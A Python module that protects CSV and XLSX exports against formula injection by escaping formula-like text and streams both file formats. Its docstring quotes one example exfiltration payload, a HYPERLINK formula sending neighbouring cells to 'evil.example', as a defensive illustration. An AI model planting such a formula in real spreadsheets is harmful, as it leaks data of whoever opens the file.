"""Cells of the CSV and XLSX files the product writes, safe to open in a spreadsheet program (pure).

Text that begins with '=', '+', '-', '@', a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets: a description `=HYPERLINK("https://evil.example/?leak="&A3&B3,"x")` in a download
would send the neighbouring cells to whoever wrote it once clicked. As OWASP advises against CSV
injection, such text gets a leading apostrophe: it then reads as text, and anyone can see it was changed.
Only text is touched: numbers (ints, Decimals, negative amounts) stay numbers, and so does text that is
nothing but a signed number ("-12.5", "+186.2 %"), in which there is nothing to run.

Every writer of a CSV or XLSX file goes through `cell`: the two streamed formats below (`csv_stream`,
`xlsx_stream`, which `stats.exports` sends for every download) and `csv_writer` (the import's rejects file).
"""

import csv
import re
import zipfile
from collections.abc import Callable, Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal
from xml.sax.saxutils import escape

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(FORMULA_STARTS)  # each a single character: the streams' quick test before `cell`
_SIGNED_NUMBER = re.compile(r"[+-]\d+(?:[.,]\d+)*\s?%?")


def cell(value):
    """`value` as a cell: text that a spreadsheet would read as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _SIGNED_NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values: Iterable) -> list:
    return [cell(value) for value in values]


class csv_writer:  # noqa: N801 - it stands in for csv.writer
    """`csv.writer(file, **options)` whose rows go through `cell`."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, values: Iterable):
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for values in rows:
            self.writerow(values)


# ------------------------------------------------------------------------------------- streamed files

# What a streamed file hands its HTTP response at a time: large enough that a million-row file is a few
# thousand socket writes, not a million; the first piece (the header row) goes out on its own, at once.
CHUNK_CHARS = 64 * 1024


def _as_it_is(moment: datetime) -> datetime:
    return moment


def csv_stream(rows: Iterable[Iterable], wall_clock: Callable = _as_it_is) -> Iterator[bytes]:
    """`rows` (the header row first) as UTF-8 CSV in pieces of about CHUNK_CHARS, every cell through `cell`;
    a BOM first so that spreadsheet programs read UTF-8 (Chinese). None is an empty cell, a datetime
    `wall_clock(value)` in ISO 8601 to the second (with its offset when aware)."""
    line = csv.writer(_Line()).writerow
    rows = iter(rows)
    header = next(rows, None)
    if header is None:
        return
    yield ("\ufeff" + line(row(header))).encode()
    lines, size = [], 0
    for values in rows:
        # One pass over the cells; most are neither text to neutralise nor times.
        text = line(
            [
                (cell(v) if v[:1] in _FORMULA_FIRST else v)
                if (kind := type(v)) is str
                else (wall_clock(v).isoformat(timespec="seconds") if kind is datetime else v)
                for v in values
            ]
        )
        lines.append(text)
        size += len(text)
        if size >= CHUNK_CHARS:
            yield "".join(lines).encode()
            lines, size = [], 0
    if lines:
        yield "".join(lines).encode()


class _Line:
    def write(self, text: str) -> str:  # csv.writer's writerow returns what its file's write returns
        return text


# An XLSX file is a zip of XML parts. It is written here as it streams, not by openpyxl, which builds each
# cell as an XML element in pure Python: 400 rows/s of the complaint list (21 columns) on our 2 cores, with
# every byte held back until the last row (decisions.md, "Exports stream"). The parts are the fewest Excel,
# LibreOffice and openpyxl open: one sheet, its cells inline strings (no shared-strings table growing in
# memory), numbers, and dates with two number formats. The zip goes to a stream that cannot seek, so each
# part's sizes follow its data (a data descriptor), as Java's and Apache POI's streaming writers do.
XLSX_DATETIME_STYLE, XLSX_DATE_STYLE = 1, 2
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_XLSX_PARTS = {
    "[Content_Types].xml": f'<Types xmlns="{_PKG}/content-types">'
    f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    f'<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{_TYPE}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_TYPE}.worksheet+xml"/>'
    f'<Override PartName="/xl/styles.xml" ContentType="{_TYPE}.styles+xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{_REL}/styles" Target="styles.xml"/></Relationships>',
    # Style 0 is the default, XLSX_DATETIME_STYLE and XLSX_DATE_STYLE the two number formats below.
    "xl/styles.xml": f'<styleSheet xmlns="{_MAIN}"><numFmts count="2">'
    '<numFmt numFmtId="164" formatCode="{datetime}"/><numFmt numFmtId="165" formatCode="{date}"/></numFmts>'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/><family val="2"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="165" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>',
    "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>'
    '<sheet name="{title}" sheetId="1" r:id="rId1"/></sheets></workbook>',
}
_SHEET = "xl/worksheets/sheet1.xml"
# Without Zip64 a part holds at most 2 GiB (Python's zipfile's limit); Excel does not open every Zip64 file
# that a streaming writer makes, so the sheet stays under it: the complaint list's rows are about 1.4 KB of
# XML (descriptions of 60 characters), a full sheet of 1,048,575 rows 1.4 GB; rows of more than 2 KB on
# average would pass it. A sheet that would ends with `cut_note` instead of a file cut short mid-zip.
XLSX_SHEET_BYTES = (1 << 31) - 1 - 1024 * 1024
# XML 1.0 cannot hold these (openpyxl refuses them: a whole file would fail for one bell character).
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_NOT_XML_OR_MARKUP = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff&<>]")
_EXCEL_EPOCH = datetime(1899, 12, 30)
_EXCEL_EPOCH_DAY = _EXCEL_EPOCH.date()


def xlsx_stream(
    rows: Iterable[Iterable],
    title: str = "data",
    wall_clock: Callable = _as_it_is,
    datetime_format: str = "yyyy-mm-dd hh:mm:ss",
    date_format: str = "yyyy-mm-dd",
    cut_note: str = "The file ends here: the rest does not fit in one sheet. Download it as CSV.",
) -> Iterator[bytes]:
    """`rows` (the header row first) as an XLSX workbook of one sheet `title`, in pieces as they are
    compressed. Text is a text cell whatever it begins with (through `cell`), without the characters XML
    cannot hold; int, float and Decimal are numbers, bool a boolean, a date a date cell (`date_format`), a
    datetime a date-time cell (`datetime_format`) of `wall_clock(value)` to the second (XLSX has no time
    zones: its offset is dropped), None an empty cell."""
    sink = _Sink()
    # Level 1: the sheet's XML is so repetitive that it still shrinks about eightfold, three times as fast as
    # the default level (which would cap the file at ~20,000 rows/s here).
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        formats = {"datetime": escape(datetime_format, _QUOTE), "date": escape(date_format, _QUOTE)}
        for name, xml in _XLSX_PARTS.items():
            xml = xml.replace("{title}", escape(title[:31], _QUOTE))
            xml = xml.replace("{datetime}", formats["datetime"]).replace("{date}", formats["date"])
            archive.writestr(_part(name), _XML + xml)
        with archive.open(_part(_SHEET), "w") as sheet:
            sheet.write(f'{_XML}<worksheet xmlns="{_MAIN}"><sheetData>'.encode())
            yield sink.take()
            written = 0
            pending, size = [], 0
            for number, values in enumerate(rows, 1):
                xml = _row_xml(number, values, wall_clock)
                # At most 3 bytes a character in UTF-8 (for the characters of the rows not yet encoded).
                if written + (size + len(xml)) * 3 > XLSX_SHEET_BYTES:
                    pending.append(_row_xml(number, [cut_note]))
                    break
                pending.append(xml)
                size += len(xml)
                if size >= CHUNK_CHARS:
                    data = "".join(pending).encode()
                    written += len(data)
                    sheet.write(data)
                    pending, size = [], 0
                    if chunk := sink.take():
                        yield chunk
            sheet.write(("".join(pending) + "</sheetData></worksheet>").encode())
    yield sink.take()


_QUOTE = {'"': "&quot;"}


def _part(name: str) -> zipfile.ZipInfo:
    # A fixed time on every part: the same rows make the same file, byte for byte.
    info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


class _Sink:
    """What the zip writer wrote since the last `take`: the stream it writes to (it cannot seek)."""

    def __init__(self) -> None:
        self._parts: list[bytes] = []

    def write(self, data) -> int:
        self._parts.append(bytes(data))
        return len(data)

    def flush(self) -> None:
        pass

    def take(self) -> bytes:
        data = b"".join(self._parts)
        self._parts.clear()
        return data


def column_letters(index: int) -> str:
    """The letters of the `index`-th column (0: A, 25: Z, 26: AA)."""
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


_COLUMNS = [column_letters(i) for i in range(702)]  # A … ZZ; further columns are computed


def _row_xml(number: int, values: Iterable, wall_clock: Callable = _as_it_is) -> str:
    cells = [f'<row r="{number}">']
    for index, value in enumerate(values):
        if value is None or value == "":
            continue
        ref = f"{_COLUMNS[index] if index < len(_COLUMNS) else column_letters(index)}{number}"
        # Most cells are text: the one type checked before the others.
        cells.append(_text_xml(ref, value) if type(value) is str else _cell_xml(ref, value, wall_clock))
    cells.append("</row>")
    return "".join(cells)


def _cell_xml(ref: str, value, wall_clock: Callable) -> str:
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float | Decimal):
        return f'<c r="{ref}"><v>{value!s}</v></c>'
    if isinstance(value, datetime):
        delta = wall_clock(value).replace(tzinfo=None) - _EXCEL_EPOCH
        serial = delta.days + delta.seconds / 86400  # to the second, as the CSV
        return f'<c r="{ref}" s="{XLSX_DATETIME_STYLE}"><v>{serial!r}</v></c>'
    if isinstance(value, date):
        return f'<c r="{ref}" s="{XLSX_DATE_STYLE}"><v>{(value - _EXCEL_EPOCH_DAY).days}</v></c>'
    return _text_xml(ref, str(value))  # text, or what shows as text (a lazy translation)


def _text_xml(ref: str, text: str) -> str:
    # Most text needs neither: one quick test each before the work.
    if text[:1] in _FORMULA_FIRST:
        text = cell(text)
    if _NOT_XML_OR_MARKUP.search(text):
        text = escape(_NOT_XML.sub("", text))
    # Spreadsheet programs drop the spaces around a text unless it says to keep them.
    space = ' xml:space="preserve"' if text[:1].isspace() or text[-1:].isspace() else ""
    return f'<c r="{ref}" t="inlineStr"><is><t{space}>{text}</t></is></c>'
